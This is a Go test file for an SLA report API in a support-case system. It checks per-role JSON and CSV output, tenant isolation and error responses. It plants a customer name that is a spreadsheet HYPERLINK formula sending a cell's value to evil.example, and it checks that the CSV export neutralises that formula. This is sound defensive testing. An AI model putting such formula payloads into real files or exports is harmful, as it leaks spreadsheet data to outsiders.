package api

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"accord/internal/cases"
	"accord/internal/reports"
	"accord/internal/sla"
	"accord/internal/store"
	"accord/internal/store/dbtest"
)

// TestSLAReport opens October's cases through the case service, then reads
// the report over HTTP as each role, as JSON and as CSV.
func TestSLAReport(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, open func(testing.TB) *store.DB) {
		f := newFixture(t, open)
		evilName := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
		f.customer("evil", evilName, "premium", "2026-01-01", 1)
		ny, err := time.LoadLocation("America/New_York")
		if err != nil {
			t.Fatal(err)
		}
		at := func(s string) time.Time {
			v, err := time.ParseInLocation("2006-01-02 15:04", s, ny)
			if err != nil {
				t.Fatal(err)
			}
			return v
		}
		agent := f.actor("agent")
		must := func(c cases.Case, err error) cases.Case {
			t.Helper()
			if err != nil {
				t.Fatal(err)
			}
			return c
		}
		openCase := func(org, when string, crit sla.Criticality, ch sla.Channel) cases.Case {
			t.Helper()
			in := cases.NewCase{OrgID: f.orgs[org].ID, Type: cases.Question, Title: org + " asks at " + when, Description: "How?", Criticality: crit, Channel: ch}
			if ch == sla.Phone {
				in.Call = &cases.Call{Caller: "Carla", Number: "+1 555 0100", At: at(when)}
			}
			return must(f.cases.Open(agent, at(when), in))
		}
		reply := func(c cases.Case, when string) {
			t.Helper()
			must(f.cases.Reply(agent, at(when), c.ID, cases.NewReply{Body: "Here is what to do."}))
		}
		// Acme (premium). C1 by phone Tue 02:00, answered 02:20: met in 20m.
		reply(openCase("acme", "2026-10-06 02:00", sla.C1, sla.Phone), "2026-10-06 02:20")
		// C3 in the portal Fri 19:00, held Mon 09:00-11:00, answered Mon
		// 12:00: 1h Fri + 1h + 1h Mon = 3h, due Mon 17:00. Met.
		c := openCase("acme", "2026-10-09 19:00", sla.C3, sla.Portal)
		must(f.cases.AwaitCustomer(agent, at("2026-10-12 09:00"), c.ID, "the customer asked us to wait for its maintenance window"))
		must(f.cases.Reply(f.actor("acme"), at("2026-10-12 11:00"), c.ID, cases.NewReply{Body: "Done, go ahead."}))
		reply(c, "2026-10-12 12:00")
		// C3 in the portal Sat 10:00, due Mon 19 16:00, never answered: breached.
		openCase("acme", "2026-10-17 10:00", sla.C3, sla.Portal)
		// An enhancement request has no clock: not counted.
		must(f.cases.Open(agent, at("2026-10-12 10:00"), cases.NewCase{OrgID: f.orgs["acme"].ID, Type: cases.Enhancement, Title: "Dark mode", Description: "Please"}))
		// Received in November: not counted.
		reply(openCase("acme", "2026-11-02 10:00", sla.C3, sla.Portal), "2026-11-02 10:10")

		// Globex (premium, served by the partner). C2 in the portal Tue
		// 10:00, call recorded for 10:30: 1h 24x7 from the call, due 11:30;
		// answered 12:45: breached, 2h15m.
		c = openCase("globex", "2026-10-13 10:00", sla.C2, sla.Portal)
		must(f.cases.RecordCall(agent, at("2026-10-13 10:31"), c.ID, cases.Call{Caller: "Gus", Number: "+1 555 0101", At: at("2026-10-13 10:30")}))
		reply(c, "2026-10-13 12:45")
		// C2 in the portal Tue 19:00 without a call: best effort on support
		// hours; answered Wed 09:00: 1h + 1h. Not guaranteed, 2h.
		reply(openCase("globex", "2026-10-13 19:00", sla.C2, sla.Portal), "2026-10-14 09:00")

		// The customer named like a formula: C4 Wed 14:00, answered 14:30. Met, 30m.
		reply(openCase("evil", "2026-10-28 14:00", sla.C4, sla.Portal), "2026-10-28 14:30")

		type row struct {
			customer, crit                                     string
			cases, met, breached, notGuaranteed, pending, resp int
			median, p90                                        string
		}
		rowsOf := func(r reports.SLAReport) []row {
			var out []row
			for _, x := range append(r.Rows, r.Total) {
				y := row{x.Customer, string(x.Criticality), x.Cases, x.Met, x.Breached, x.NotGuaranteed, x.Pending, x.Responded, "", ""}
				if x.Median != nil {
					y.median, y.p90 = x.Median.Text, x.P90.Text
				}
				out = append(out, y)
			}
			return out
		}
		acmeRows := []row{
			{"Acme Bank", "C1", 1, 1, 0, 0, 0, 1, "20m", "20m"},
			{"Acme Bank", "C3", 2, 1, 1, 0, 0, 1, "3h", "3h"},
		}
		globexRows := []row{{"Globex Health", "C2", 2, 0, 1, 1, 0, 2, "2h", "2h15m"}}
		for _, tc := range []struct {
			as, query string
			want      []row
		}{
			// Everything: 6 cases; answered 20m 30m 2h 2h15m 3h, so the
			// median is the 3rd (2h) and p90 the ceil(4.5) = 5th (3h).
			{"admin", "", append(append(append([]row{{evilName, "C4", 1, 1, 0, 0, 0, 1, "30m", "30m"}}, acmeRows...), globexRows...),
				row{"", "", 6, 3, 2, 1, 0, 5, "2h", "3h"})},
			{"auditor", "&org_id={org:acme}", append(acmeRows, row{"", "", 3, 2, 1, 0, 0, 2, "20m", "3h"})},
			{"acme", "", append(acmeRows, row{"", "", 3, 2, 1, 0, 0, 2, "20m", "3h"})},
			{"acme-admin", "&org_id={org:acme}", append(acmeRows, row{"", "", 3, 2, 1, 0, 0, 2, "20m", "3h"})},
			{"globex", "", append(globexRows, row{"", "", 2, 0, 1, 1, 0, 2, "2h", "2h15m"})},
			{"partner", "", append(globexRows, row{"", "", 2, 0, 1, 1, 0, 2, "2h", "2h15m"})},
		} {
			t.Run(tc.as+tc.query, func(t *testing.T) {
				before := chainLengths(f)
				resp := f.do(tc.as, "GET", f.expand("/api/v1/reports/sla?month=2026-10"+tc.query), nil)
				if resp.status != http.StatusOK {
					t.Fatalf("status %d: %s", resp.status, resp.body)
				}
				var r reports.SLAReport
				resp.json(t, &r)
				got := rowsOf(r)
				if len(got) != len(tc.want) {
					t.Fatalf("rows %+v, want %+v", got, tc.want)
				}
				for i := range got {
					if got[i] != tc.want[i] {
						t.Errorf("row %d = %+v, want %+v", i, got[i], tc.want[i])
					}
				}
				if r.Month != "2026-10" || r.Zone != "America/New_York" || !r.At.Equal(f.now) {
					t.Errorf("report %s in %s at %s", r.Month, r.Zone, r.At)
				}
				for _, foreign := range map[string][]string{"acme": {"Globex", "HYPERLINK"}, "globex": {"Acme", "HYPERLINK"}, "partner": {"Acme", "HYPERLINK"}}[tc.as] {
					if strings.Contains(resp.body, foreign) {
						t.Errorf("%s sees %q: %s", tc.as, foreign, resp.body)
					}
				}
				if after := chainLengths(f); len(after) != len(before) || func() bool {
					for k, n := range after {
						if before[k] != n {
							return true
						}
					}
					return false
				}() {
					t.Error("reading a report wrote audit events")
				}
			})
		}

		// CSV, by ?format= or Accept; the formula is text.
		for _, how := range []struct{ query, accept string }{{"&format=csv", ""}, {"", "text/csv"}} {
			var headers []string
			if how.accept != "" {
				headers = []string{"Accept", how.accept}
			}
			resp := f.do("admin", "GET", "/api/v1/reports/sla?month=2026-10"+how.query, nil, headers...)
			if resp.status != http.StatusOK || !strings.HasPrefix(resp.header.Get("Content-Type"), "text/csv") ||
				resp.header.Get("Content-Disposition") != `attachment; filename="sla-2026-10.csv"` || resp.header.Get("X-Content-Type-Options") != "nosniff" {
				t.Fatalf("CSV %+v: %d %v %s", how, resp.status, resp.header, resp.body)
			}
			records, err := csv.NewReader(strings.NewReader(resp.body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(records) != 6 || strings.Join(records[0], ",") != strings.Join(reports.SLAColumns, ",") {
				t.Fatalf("CSV records %q", records)
			}
			if got := records[1][2]; got != "'"+evilName {
				t.Errorf("the formula's cell is %q, want it quoted", got)
			}
			if got := strings.Join(records[5], ","); got != "2026-10,,Total,,,6,3,2,1,0,0,5,7200,2h,10800,3h" {
				t.Errorf("totals %q", got)
			}
		}
		resp := f.do("acme", "GET", "/api/v1/reports/sla?month=2026-10&format=csv", nil)
		if resp.status != http.StatusOK || strings.Contains(resp.body, "Globex") || strings.Contains(resp.body, "HYPERLINK") || !strings.Contains(resp.body, "Acme Bank") {
			t.Fatalf("acme's CSV: %d %s", resp.status, resp.body)
		}
		// Accept naming JSON first is JSON.
		resp = f.do("admin", "GET", "/api/v1/reports/sla?month=2026-10", nil, "Accept", "application/json, text/csv")
		if !strings.HasPrefix(resp.header.Get("Content-Type"), "application/json") {
			t.Fatalf("Accept JSON first: %v", resp.header)
		}

		for _, tc := range []struct {
			as, query string
			status    int
			field     string
		}{
			{"admin", "", http.StatusBadRequest, "month"},
			{"admin", "?month=2026-13", http.StatusBadRequest, "month"},
			{"admin", "?month=2026-10&format=xml", http.StatusBadRequest, "format"},
			{"admin", "?month=2026-10&org_id=nonsense", http.StatusBadRequest, "org_id"},
			{"acme", "?month=2026-10&org_id={org:globex}", http.StatusNotFound, ""},
			{"acme", "?month=2026-10&format=csv&org_id={org:globex}", http.StatusNotFound, ""},
			{"partner", "?month=2026-10&org_id={org:acme}", http.StatusNotFound, ""},
			{"lapsed", "?month=2026-10", http.StatusForbidden, ""},
			{"", "?month=2026-10", http.StatusUnauthorized, ""},
		} {
			resp := f.do(tc.as, "GET", f.expand("/api/v1/reports/sla"+tc.query), nil)
			var e errorBody
			resp.json(t, &e)
			if resp.status != tc.status || e.Error.Field != tc.field || strings.Contains(resp.body, "Globex") && tc.as != "admin" {
				t.Errorf("%s %s: %d %s, want %d naming %q", tc.as, tc.query, resp.status, resp.body, tc.status, tc.field)
			}
		}
	})
}
